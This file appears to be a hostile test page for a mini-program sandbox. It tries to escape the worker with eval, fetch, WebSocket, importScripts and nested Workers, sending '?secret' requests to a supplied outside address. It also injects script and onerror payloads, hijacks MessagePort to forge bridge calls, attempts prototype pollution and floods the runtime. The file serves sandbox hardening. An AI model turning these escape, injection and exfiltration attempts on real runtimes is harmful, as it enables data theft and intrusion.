const report = (name, open) => console.log('try', name, open ? 'open' : 'blocked');
const sync = (name, run) => { try { report(name, run() !== false); } catch (error) { report(name, false); } };
const async_ = (name, promise) => promise.then(() => report(name, true), () => report(name, false));

function escape(out) {
  sync('eval', () => (0, eval)('1'));
  sync('Function', () => new Function('return 1')());
  sync('constructor', () => (() => 0).constructor('return 1')());
  globalThis.__late = 0;
  try { setTimeout('globalThis.__late = 1', 0); } catch (error) { /* refused at once */ }
  setTimeout(() => report('setTimeout text', globalThis.__late === 1), 150);
  sync('WebAssembly', () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
  sync('RTCPeerConnection', () => typeof RTCPeerConnection !== 'undefined');
  sync('document', () => typeof document !== 'undefined');
  sync('localStorage', () => typeof localStorage !== 'undefined' && !!localStorage);
  sync('importScripts', () => importScripts(`${out}/import.js`));
  sync('importScripts data', () => importScripts('data:text/javascript,1'));
  sync('XMLHttpRequest', () => { const ask = new XMLHttpRequest(); ask.open('GET', `${out}/xhr`, false); ask.send(); });
  async_('fetch', fetch(`${out}/fetch?secret`));
  async_('import()', import(`${out}/module.js`));
  async_('FontFace', new FontFace('x', `url(${out}/font?secret)`).load());
  const socket = (name, make) => { try { const made = make(); made.onopen = () => report(name, true); made.onerror = () => report(name, false); } catch (error) { report(name, false); } };
  socket('WebSocket', () => new WebSocket(out.replace('http', 'ws')));
  socket('EventSource', () => new EventSource(`${out}/events`));
  try { async_('WebTransport', new WebTransport(out.replace('http:', 'https:')).ready); } catch (error) { report('WebTransport', false); }
  try {
    const text = `fetch(${JSON.stringify(`${out}/nested`)}).then(()=>postMessage(1),()=>postMessage(0))`;
    const nested = new Worker(URL.createObjectURL(new Blob([text])));
    nested.onmessage = (event) => report('nested Worker', event.data === 1);
    nested.onerror = () => report('nested Worker', false);
  } catch (error) { report('nested Worker', false); }
  try { const ask = indexedDB.open('x'); ask.onsuccess = () => report('indexedDB', true); ask.onerror = () => report('indexedDB', false); } catch (error) { report('indexedDB', false); }
  try { async_('caches', caches.open('x')); } catch (error) { report('caches', false); }
  sync('BroadcastChannel', () => new BroadcastChannel('superapp').postMessage('secret'));
}

function forge(out) {
  const ops = [['c', 9001, 'script'], ['at', 9001, 'src', `${out}/forged.js`], ['tx', 9001, `fetch("${out}")`], ['a', 1, 9001],
    ['c', 9002, 'img src=x onerror=1'], ['c', 9003, 'iframe'], ['at', 9003, 'srcdoc', '<script>1</script>'], ['a', 1, 9003],
    ['at', 1, 'onclick', `fetch("${out}")`], ['css', 0, `@import url(${out}/css);wx-view{background:url(${out}/bg)}`],
    ['st', 1, `background:url(${out}/style)`], ['a', 1, 424242], ['root', 9004], ['c', 9005, 'image'], ['at', 9005, 'src', `${out}/img?secret`],
    ['a', 1, 9005], ['c', 9006, 'rich-text'], ['at', 9006, 'nodes', `<img src="${out}/rich?secret"><script src="${out}/s.js"></script>`], ['a', 1, 9006],
    ['h', 9007, 'image'], ['c', 9001, 'view'], ['zz', 1], 'nonsense', ['st'], ['p', 1, 1, 1], ['a', 9005, 1]];
  postMessage({ kind: 'ops', ops });
  postMessage(null); postMessage({ kind: 'ask' }); postMessage({ kind: 'watch', n: 1, id: 77 }); postMessage(7);
  // What a view gives beyond plain data, asked for with addresses outside and with nonsense.
  const asked = [['picture', { places: [`${out}/picture?secret`, `\t${out}/two`, `blob:${out}/three`] }], ['picture', { places: 'x' }], ['picture', { bytes: 'x' }], ['picture', null],
    ['font', { family: 'x', source: `${out}/font?secret` }], ['font', { family: 'x', source: `") , url("${out}/quoted` }], ['font', 7], ['canvas', null], ['__proto__', {}]];
  asked.forEach(([what, arg], at) => postMessage({ kind: 'ask', n: 90000 + at, id: 1, what, arg }));
  setTimeout(() => console.log('forged'), 300);
}

const floods = {
  ops: () => { let id = 100000; const batch = () => { const ops = []; for (let i = 0; i < 40000; i++) ops.push(['c', ++id, 'view']); postMessage({ kind: 'ops', ops }); }; setInterval(() => { for (let i = 0; i < 20; i++) batch(); }, 0); },
  text: () => postMessage({ kind: 'ops', ops: [['t', 99999, 'x'.repeat(100 * 1024 * 1024)], ['a', 1, 99999]] }),
  nodes: () => { for (let part = 0; part < 10; part++) { const ops = []; for (let i = 0; i < 20000; i++) ops.push(['c', 200000 + part * 20000 + i, 'view']); postMessage({ kind: 'ops', ops }); } setTimeout(() => console.log('nodes sent'), 0); },
  logs: () => { for (let i = 0; i < 5000; i++) console.log('noise', i); },
  calls: () => { for (let i = 0; i < 500; i++) wx.request({ url: 'https://x.example', fail() {} }); },
};

// The runtime's port is held by closures; a program that replaces what the port uses may still catch it.
function forgeCalls() {
  const own = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message) {
    MessagePort.prototype.postMessage = own;
    own.call(this, message);
    const port = this;
    port.addEventListener('message', (event) => {
      const { kind, id, refused } = event.data;
      if (id > 9000) console.log('bridge', names[id - 9001], kind, refused ? refused.errMsg : '');
    });
    const names = ['constructor', 'toString', 'hasOwnProperty', 'deleteEverything', 'exitMiniProgram.x'];
    names.forEach((api, at) => own.call(port, { kind: 'call', id: 9001 + at, api, arg: {} }));
    const odd = [null, 7, 'text', [], {}, { kind: 'call' }, { kind: 'call', id: -1, api: 'login' }, { kind: 'call', id: 1.5, api: 'login' },
      { kind: 'call', id: 9100, api: '../login' }, { kind: 'call', id: 9101, api: '__proto__' }, { kind: 'call', id: 9102, api: 'login', arg: 'x'.repeat(2000000) },
      { kind: 'page', page: { path: {}, title: 5, background: 'url(x)', tab: 'y' } }, { kind: 'log', level: 'table', text: 1 }, { kind: 'pong' }];
    for (const message of odd) own.call(port, message);
    const polluting = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"title":"x","duration":60000}');
    own.call(port, { kind: 'call', id: 9200, api: 'showToast', arg: polluting });
    own.call(port, polluting);
    // A port of its own, hoping that the host talks to it; answers to questions that it was never asked.
    const channel = new MessageChannel();
    channel.port1.onmessage = () => console.log('bridge stolen');
    own.call(port, { kind: 'call', id: 9201, api: 'vibrateShort', arg: {} }, [channel.port2]);
    for (let id = 1; id < 300; id++) {
      own.call(port, { kind: 'reply', id, ok: { code: 'guessed' } });
      own.call(port, { kind: 'abort', id });
    }
    console.log('bridge forged done');
  };
  console.log('caught');
}

// Drawing ops made of everything at hand, in an order that a seed decides.
function randomOps(seed) {
  let state = seed;
  const next = (n) => { state = (Math.imul(state, 1664525) + 1013904223) >>> 0; return Math.floor((state / 2 ** 32) * n); };
  const codes = ['root', 'c', 'h', 't', 'f', 'a', 'i', 'r', 'p', 'sb', 'sr', 'st', 'sp', 'ca', 'cr', 'cc', 'at', 'ra', 'tx', 'ls', 'css', 'pg', 'rel', '', 'eval'];
  const odd = [0, 1, 2, 3, 9001, 9002, 9003, 9004, -1, 1.5, NaN, null, undefined, '', 'view', 'script', 'iframe', 'svg', 'img onerror=1', 'a/b', 'onclick', 'srcdoc', 'style',
    'id', 'class', 'data-x', 'href', 'src', 'nodes', 'animation', 'value', '__proto__', 'constructor', 'javascript:1', '<img src=x onerror=1>', '@import "x"', 'url(x)', [], {}, true,
    { name: 'script', attrs: { src: 'x', onload: 'x' }, children: [] }, [{ name: 'iframe', attrs: { srcdoc: 'x' } }], 'show', 'hide', 'config', 'image', 'rich-text', 'input', 'swiper', 'picker', 'page'];
  return Array.from({ length: 2000 }, () => [codes[next(codes.length)], ...Array.from({ length: next(5) }, () => odd[next(odd.length)])]);
}

Page({
  data: { n: 0 },
  onLoad(query) {
    if (query.loop === 'load') for (;;);
    if (query.loop === 'microtask') { const again = () => Promise.resolve().then(again); again(); }
    if (query.out) { const out = decodeURIComponent(query.out); escape(out); forge(out); }
    if (query.flood) setTimeout(floods[query.flood], 300);
    if (query.bridge) forgeCalls();
    if (query.ops) for (let seed = 1; seed <= 10; seed++) postMessage({ kind: 'ops', ops: randomOps(Number(query.ops) * 100 + seed) });
    if (query.ops) setTimeout(() => console.log('random drawn'), 200);
  },
  spin() { for (;;); },
});
